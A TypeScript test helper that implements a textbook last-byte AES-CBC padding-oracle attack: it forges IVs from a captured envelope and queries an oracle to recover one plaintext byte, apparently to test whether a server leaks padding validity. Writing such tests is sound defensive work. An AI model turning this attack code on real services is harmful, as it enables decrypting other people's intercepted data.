/**
 * A textbook last-byte AES-CBC padding-oracle attacker, for the issue-10 test: given a captured
 * envelope, it recovers the last plaintext byte of block `block` by sending the single block
 * C[block] behind a forged iv (C[block-1] with its last byte changed). The decryption of that
 * one block is P[block] with its last byte XORed by the change; the padding is valid (and, the
 * other bytes being text, the server answers `delivered`) exactly when the forged last byte is
 * 0x01, so each guess g of the plaintext byte is one query. Guesses go in ascending order, as in
 * the textbook; it needs (byte value + 1) queries.
 */
export type OracleAnswer = 'valid' | 'invalid' | 'gone';
export type Oracle = (envelope: string) => Promise<OracleAnswer>;

export interface AttackResult {
  /** The recovered byte, or null. */
  byte: number | null;
  queries: number;
  /** Why it stopped: found the byte, the session was gone, or every guess failed. */
  stoppedBy: 'found' | 'gone' | 'exhausted';
  /** The envelope the correct guess would have been, for checking the oracle afterwards. */
  forgeryFor(guess: number): string;
}

export async function lastByteAttack(captured: string, block: number, oracle: Oracle): Promise<AttackResult> {
  const envelope = JSON.parse(captured) as Record<string, unknown>;
  const iv = Buffer.from(String(envelope.iv), 'base64');
  const ciphertext = Buffer.from(String(envelope.ciphertext), 'base64');
  const blocks = [iv, ...Array.from({ length: ciphertext.length / 16 }, (_, i) => ciphertext.subarray(i * 16, i * 16 + 16))];
  const previous = blocks[block - 1]!;
  const target = blocks[block]!;
  const forgeryFor = (guess: number): string => {
    const forged = Buffer.from(previous);
    forged[15] = previous[15]! ^ guess ^ 0x01;
    return JSON.stringify({ ...envelope, iv: forged.toString('base64'), ciphertext: target.toString('base64') });
  };
  let queries = 0;
  for (let guess = 0; guess < 256; guess++) {
    const answer = await oracle(forgeryFor(guess));
    queries += 1;
    if (answer === 'valid') return { byte: guess, queries, stoppedBy: 'found', forgeryFor };
    if (answer === 'gone') return { byte: null, queries, stoppedBy: 'gone', forgeryFor };
  }
  return { byte: null, queries, stoppedBy: 'exhausted', forgeryFor };
}
